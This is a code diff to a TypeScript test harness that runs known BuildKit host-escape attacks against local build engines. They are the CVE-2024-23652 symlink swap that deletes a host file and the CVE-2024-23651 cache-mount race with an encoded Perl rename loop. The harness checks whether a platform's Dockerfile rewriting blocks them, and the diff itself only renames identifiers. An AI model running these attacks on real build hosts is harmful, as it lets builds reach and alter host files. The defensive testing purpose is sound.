@@ -10,18 +10,18 @@ import type { Rewritten } from "../user-dockerfile.ts";
 // Attacks on the host by a Dockerfile, as they are known of BuildKit. They can be run against any engine of this machine,
 // as they are written, or as the platform would build them.
 
-const BUILD_MS = 120_000;
+const buildMs = 120_000;
 
 /** What the platform makes of a Dockerfile; left out: nothing. */
 export type Rewrite = (text: string) => Rewritten;
 export type Outcome = "refused" | "harmless" | "the host was reached";
 
-export type Attack = {
+export interface Attack {
   name: string;
   run(target: Target): Promise<Outcome>;
-};
+}
 
-export type Target = {
+export interface Target {
   engine: Engine;
   baseImage: string;
   rewrite?: Rewrite;
@@ -29,7 +29,7 @@ export type Target = {
   mark: string;
   /** What the engine has as its root, where it is not that of this machine. */
   root?: string;
-};
+}
 
 /** An empty file of the host, which the engine is to remove (CVE-2024-23652). */
 const removal = (
@@ -48,18 +48,18 @@ const removal = (
     const built = await build(engine, text, mark, rewrite);
     if (built.refused) return "refused";
     // What the platform does about it may keep the step from going on, but not from beginning.
-    const reached = rewrite === undefined ? SET : BEGUN;
+    const reached = rewrite === undefined ? set : begunMark;
     if (!built.log.includes(reached)) throw new Error(`The attack did not get far: ${built.log}`);
     return (await exists(file)) ? "harmless" : "the host was reached";
   },
 });
 
-const BEGUN = "THE STEP HAS BEGUN";
-const SET = "THE TRAP IS SET";
+const begunMark = "THE STEP HAS BEGUN";
+const set = "THE TRAP IS SET";
 /** Written so that it is not in the text of the step itself, which engines repeat. */
 const say = (text: string): string => `echo ${text.toLowerCase()} | tr a-z A-Z`;
 const trap = (options: string, from: string, hostDir: string): string =>
-  `RUN ${options} ${say(BEGUN)} && mv ${from} /elsewhere && ln -s ${hostDir} ${from} && ${say(SET)}`;
+  `RUN ${options} ${say(begunMark)} && mv ${from} /elsewhere && ln -s ${hostDir} ${from} && ${say(set)}`;
 
 export const removals: readonly Attack[] = [
   removal("the target of a directory in memory is bent", "a", (hostDir) => [
@@ -87,15 +87,15 @@ export const removals: readonly Attack[] = [
 ];
 
 /** Exchanges two names for as long as it is let: `a` is a directory, `b` a link to one of the host. */
-const EXCHANGE = `
+const exchangeScript = `
   use POSIX ();
   my $number = (POSIX::uname())[4] eq "aarch64" ? 276 : 316;
   my ($until, $a, $b) = (time + $ARGV[0], "/c/a", "/c/b");
   while (time < $until) { for (1 .. 1000) { syscall($number, -100, $a, -100, $b, 2) == 0 or die "exchange: $!" } }
 `;
 /** Builds that try their luck while the names are exchanged, one after the other. */
-const ATTEMPTS_MS = 90_000;
-const STAGES = 2;
+const attemptsMs = 90_000;
+const stages = 2;
 
 /** A file of the host that a build reads through a part of a cache (CVE-2024-23651). Takes a while where it works, too. */
 export const cacheRace: Attack = {
@@ -105,20 +105,20 @@ export const cacheRace: Attack = {
     const secret = `secret-${mark}`;
     await writeFile(join(host.dir, "file"), secret);
     const cache = `--mount=type=cache,id=race-${mark}`;
-    const program = Buffer.from(EXCHANGE).toString("base64");
+    const program = Buffer.from(exchangeScript).toString("base64");
     const prepare = `mkdir -p /c/a && ln -sfn ${host.known} /c/b && echo ${program} | base64 -d > /exchange.pl`;
     const exchange = [
       `FROM ${baseImage}`,
-      `RUN ${cache},target=/c ${prepare} && echo exchanging && perl /exchange.pl ${ATTEMPTS_MS / 1000}`,
+      `RUN ${cache},target=/c ${prepare} && echo exchanging && perl /exchange.pl ${attemptsMs / 1000}`,
     ].join("\n");
     const attempt = (count: number): string =>
       [
-        ...Array.from({ length: STAGES }, (_, at) => [
+        ...Array.from({ length: stages }, (_, at) => [
           `FROM ${baseImage} AS s${at}`,
           `RUN ${cache},source=a,target=/t cat /t/file && echo ${count} > /result || touch /result`,
         ]).flat(),
         "FROM scratch",
-        ...Array.from({ length: STAGES }, (_, at) => `COPY --from=s${at} /result /${at}`),
+        ...Array.from({ length: stages }, (_, at) => `COPY --from=s${at} /result /${at}`),
       ].join("\n");
     if (rewrite !== undefined && "refuse" in rewrite(attempt(0))) return "refused";
     const over = new AbortController();
@@ -128,7 +128,7 @@ export const cacheRace: Attack = {
     });
     await Promise.race([begun.promise, exchanging]);
     try {
-      const endsAtMs = Date.now() + ATTEMPTS_MS;
+      const endsAtMs = Date.now() + attemptsMs;
       for (let count = 0; Date.now() < endsAtMs; count += 1) {
         const { log } = await build(engine, attempt(count), `${mark}-${count}`, rewrite);
         if (log.includes(secret)) return "the host was reached";
@@ -141,7 +141,10 @@ export const cacheRace: Attack = {
   },
 };
 
-type Built = { refused: boolean; log: string };
+interface Built {
+  refused: boolean;
+  log: string;
+}
 
 /** A build that fails is as good as one that ends: the host is looked at afterwards. */
 async function build(
@@ -155,7 +158,7 @@ async function build(
   const rewritten = rewrite?.(text);
   if (rewritten !== undefined && "refuse" in rewritten) return { refused: true, log: rewritten.refuse };
   const tag = `svc-attack:${name}`;
-  const within = AbortSignal.any([AbortSignal.timeout(BUILD_MS), ...(signal === undefined ? [] : [signal])]);
+  const within = AbortSignal.any([AbortSignal.timeout(buildMs), ...(signal === undefined ? [] : [signal])]);
   const secrets = new Map([["TOKEN", Buffer.from("of the project")]]);
   if (rewritten !== undefined) await provideStubs(engine);
   let log = "";
